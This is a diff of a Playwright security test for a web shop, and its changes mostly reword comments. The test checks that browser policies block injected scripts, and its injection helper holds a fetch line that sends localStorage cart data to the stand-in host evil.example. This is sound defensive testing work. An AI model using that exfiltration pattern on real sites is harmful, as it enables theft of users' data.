@@ -1,4 +1,4 @@
-// What a browser does when hostile markup gets into a page of the shop, or a hostile page embeds the shop.
+// Tests a browser when hostile markup gets into a page of the shop, or a hostile page embeds the shop.
 import { expect, test } from '@playwright/test';
 import type { Page } from '@playwright/test';
 
@@ -16,7 +16,7 @@ declare global {
 const evil = 'http://evil.example';
 
 test.beforeEach(async ({ context }) => {
-  // Everything of the hostile site can be had: only the browser's own rules keep it out of the shop.
+  // The hostile site serves everything: only the browser's own rules keep it out of the shop.
   await context.route(`${evil}/**`, async (route) => {
     const { pathname } = new URL(route.request().url());
     if (pathname === '/frame.html') {
@@ -33,7 +33,7 @@ test.beforeEach(async ({ context }) => {
   });
 });
 
-/** Tries every way in which injected markup could run something; the page then notes what ran and what the policy stopped. */
+/** Tries every way in which injected markup could run code; the page records what ran and what the policy blocked. */
 async function inject(page: Page): Promise<void> {
   await page.evaluate((origin) => {
     window.ran = [];
@@ -46,7 +46,7 @@ async function inject(page: Page): Promise<void> {
     };
     type Same = Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>;
     const same = (text: string) => text;
-    // What is injected by the server, or by a fault in a library, asks no policy of the page.
+    // Markup injected by the server, or by a fault in a library, bypasses the page's policy.
     const past = { createHTML: same, createScript: same, createScriptURL: same };
     const made = trustedTypes?.createPolicy(`hostile-${Math.random()}`, past) ?? past;
     const script = document.createElement('script');
@@ -70,7 +70,7 @@ async function inject(page: Page): Promise<void> {
     try {
       Reflect.apply(setTimeout, window, ['window.ran.push("evaluated text")', 0]);
     } catch {
-      // Text is refused where code is asked for.
+      // Text is refused where trusted code is required.
     }
     void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
       () => window.ran.push('sent away'),
@@ -79,7 +79,7 @@ async function inject(page: Page): Promise<void> {
   }, evil);
 }
 
-/** Hands text to what makes markup or scripts of it; answers what was refused. */
+/** Passes text to every API that turns it into markup or scripts; returns the APIs that refused it. */
 const refusedTexts = (page: Page) =>
   page.evaluate((origin) => {
     const sinks: Record<string, () => unknown> = {
@@ -126,7 +126,9 @@ test('markup injected into a page of the shop runs, loads and sends nothing', as
   expect(answered.filter((url) => url.startsWith(evil))).toEqual([]);
 });
 
-test('no text becomes markup or a script by a library’s or our own oversight', async ({ page }) => {
+test('no text becomes markup or a script through an oversight in a library or in the shop’s code', async ({
+  page,
+}) => {
   for (const path of ['/', '/admin/login']) {
     await page.goto(path);
     await expect(page.locator('#root > *').first()).toBeVisible();
